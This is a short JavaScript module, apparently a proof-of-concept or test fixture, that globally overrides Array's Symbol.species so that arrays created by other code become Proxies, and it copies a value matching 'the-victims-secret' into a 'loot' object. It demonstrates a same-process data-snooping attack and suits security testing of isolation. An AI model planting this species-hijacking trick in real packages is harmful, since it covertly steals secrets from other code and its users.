'use strict';
module.exports = (victim, loot) => {
  Object.defineProperty(Array, Symbol.species, { get() { return function () { return new Proxy([], { defineProperty(t, k, d) { if (d.value === 'the-victims-secret') loot.value = d.value; return Reflect.defineProperty(t, k, d); } }); }; }, configurable: true });
};
